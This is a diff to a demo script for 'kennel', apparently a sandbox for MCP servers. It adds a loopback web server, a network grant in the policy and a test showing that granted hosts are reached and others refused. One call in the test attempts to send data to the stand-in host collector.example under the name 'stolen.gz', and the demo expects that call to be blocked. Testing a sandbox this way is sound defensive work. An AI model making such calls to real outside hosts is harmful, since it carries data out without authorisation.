@@ -6,9 +6,10 @@ and takes it away again at the end.
 """
 import json
 import os
+import socketserver
 import subprocess
 import sys
-import time
+import threading
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 sys.dont_write_bytecode = True
@@ -78,6 +79,8 @@ def ask(s, method, params, what=None):
         for c in r["content"]:
             if c["type"] == "text":
                 show("comes back  <", short(c["text"]))
+            elif c["type"] == "resource_link":
+                show("comes back  <", "a link to %s, %s" % (c["uri"], c["mimeType"]))
     else:
         show("comes back  <", json.dumps(r)[:300])
     return m
@@ -88,7 +91,24 @@ def call(s, tool, **arguments):
                "%s %s" % (tool, json.dumps(arguments)))
 
 
-def policy_text(kit, work):
+class Host(socketserver.StreamRequestHandler):
+    """A web server on this machine's loopback: the one host that is granted."""
+
+    def handle(self):
+        while self.rfile.readline().strip():
+            pass
+        self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nwoof, woof.\n")
+
+
+def host():
+    """Starts it; its port."""
+    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Host)
+    server.daemon_threads = True
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server.server_address[1]
+
+
+def policy_text(kit, work, port):
     everything = kit.MODULES + "/@modelcontextprotocol/server-everything/dist/index.js"
     files = kit.MODULES + "/@modelcontextprotocol/server-filesystem/dist/index.js"
     w = kit.words
@@ -108,7 +128,8 @@ server everything {
     run    %s
     read   %s
     secret API_TOKEN from env DEMO_TOKEN
-    tool   allow echo get-sum get-env
+    tool   allow echo get-sum get-env gzip-file-as-resource
+    net    allow localhost:%d to loopback plain
     sampling allow
 }
 
@@ -119,7 +140,7 @@ server shell {
     read  /usr/bin
 }
 """ % (w(kit.NODE, files, work), w(kit.MODULES), user, w(work), w(work + "/.env"),
-       w(kit.NODE, everything), w(kit.MODULES))
+       w(kit.NODE, everything), w(kit.MODULES), port)
 
 
 def inner():
@@ -133,7 +154,8 @@ def inner():
             f.write(text)
     policy = kit.TMP + "/demo.kennel"
     with open(policy, "w") as f:
-        f.write(policy_text(kit, work))
+        port = host()
+        f.write(policy_text(kit, work, port))
     who = "root" if os.geteuid() == 0 else "an ordinary user (uid %d)" % os.geteuid()
     title("kennel: two real MCP servers on a leash, as %s" % who)
     failed = []
@@ -180,9 +202,26 @@ def inner():
     expect(TOKEN not in json.dumps(m) and "***" in json.dumps(m), "the secret is scrubbed")
     expect("OTHER_SECRET" not in json.dumps(m), "only the granted variables arrive")
     call(s, "get-sum", a=2, b=40)
-    s.close()
 
-    title("4. Programs: what nothing grants does not start")
+    title("4. Network: the granted name answers, and no other name exists")
+    show("           --", "the same server fetches addresses; it needs no proxy variable:")
+    url = "http://localhost:%d/notes.txt" % port
+    m = call(s, "gzip-file-as-resource", name="notes.gz", data=url)
+    expect("resource_link" in json.dumps(m), "a granted host is reached")
+    show("           --", "a name that the policy does not grant:")
+    m = call(s, "gzip-file-as-resource", name="stolen.gz", data="http://collector.example/?notes")
+    expect("error" in m or m["result"].get("isError"), "another host is refused")
+    s.close()
+    for line in s.stderr().splitlines():
+        if "net allow" in line:
+            show("stderr       ", line)
+    r = kit.run([kit.KENNEL, "audit", "denials", "--server", "everything"])
+    show("$", "kennel audit denials --server everything")
+    for line in r.stdout.decode(errors="replace").splitlines():
+        show("comes back  <", line)
+    expect(b"net allow collector.example" in r.stdout, "the log has the line that would grant it")
+
+    title("5. Programs: what nothing grants does not start")
     for argv in (["/bin/echo", "granted"], ["/usr/bin/env"]):
         cmd = " ".join(argv)
         r = kit.run([kit.KENNEL, "exec", "--policy", policy, "shell", "--", "/bin/sh", "-c", cmd])
@@ -196,7 +235,7 @@ def inner():
          "status %d" % r.returncode)
     expect(r.returncode == 126, "an ungranted program given to kennel exec")
 
-    title("5. The log: what happened, and that nobody changed it")
+    title("6. The log: what happened, and that nobody changed it")
     kit.wait_for(lambda: any('"stop"' in json.dumps(e) for e in kit.audit()), 3)
     r = kit.run([kit.KENNEL, "audit", "log"])
     for line in r.stdout.decode(errors="replace").splitlines():
